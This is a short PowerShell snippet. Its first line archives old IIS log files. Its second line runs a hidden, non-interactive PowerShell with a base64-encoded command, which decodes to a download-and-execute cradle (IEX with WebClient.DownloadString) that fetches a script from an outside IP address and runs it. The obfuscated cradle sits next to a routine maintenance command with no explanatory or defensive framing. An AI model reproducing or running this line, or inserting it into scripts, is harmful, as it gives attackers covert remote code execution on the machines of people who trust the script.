Get-ChildItem C:\inetpub\logs -Recurse -Filter *.log | Where-Object LastWriteTime -lt (Get-Date).AddDays(-14) | Compress-Archive -DestinationPath old.zip
powershell.exe -NoP -NonI -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA4AC8AYQAnACkA
